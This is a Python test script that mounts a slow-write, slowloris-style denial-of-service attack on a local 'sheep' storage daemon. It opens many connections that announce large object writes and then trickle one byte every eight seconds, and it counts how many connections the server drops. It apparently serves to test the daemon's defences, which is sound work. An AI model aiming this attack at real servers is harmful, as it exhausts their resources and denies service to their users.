#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Trickle payloads into a sheep: trickle.py PORT OID N SECONDS.  N
connections each send a WRITE_OBJ header announcing 4 MiB for object OID
(hex), 4 KiB of it, then a byte every 8 s, for SECONDS; prints how many the
sheep closed (or answered) meanwhile."""
import socket
import struct
import sys
import time

MIB = 1 << 20
SRC = "127.0.0.2"  # another host's address, as an attacker's


def header(oid, conn_id):
    # protocol.md §2: version, opcode (WRITE_OBJ), flags (WRITE), epoch,
    # id, data_length, then the object fields (oid first)
    h = struct.pack("<BBHIII", 0x02, 0x03, 0x0001, 0, 0x7e000000 + conn_id,
                    4 * MIB)
    h += struct.pack("<Q", oid)
    return h + bytes(48 - len(h))


def main():
    port, oid, n, secs = (int(sys.argv[1]), int(sys.argv[2], 16),
                          int(sys.argv[3]), float(sys.argv[4]))
    conns = []
    for i in range(n):
        s = socket.create_connection(("127.0.0.1", port),
                                     source_address=(SRC, 0))
        s.sendall(header(oid, i) + bytes(4096))
        s.setblocking(False)
        conns.append(s)
    print("started %d" % len(conns), flush=True)
    end = time.time() + secs
    closed = set()
    while time.time() < end:
        for i, s in enumerate(conns):
            if i in closed:
                continue
            try:
                if s.recv(64) == b"":
                    closed.add(i)
                    continue
            except BlockingIOError:
                pass
            except OSError:
                closed.add(i)
                continue
            try:
                s.send(b"\0")
            except OSError:
                closed.add(i)
        time.sleep(8)
    print("closed by the sheep: %d of %d" % (len(closed), n), flush=True)


if __name__ == "__main__":
    main()
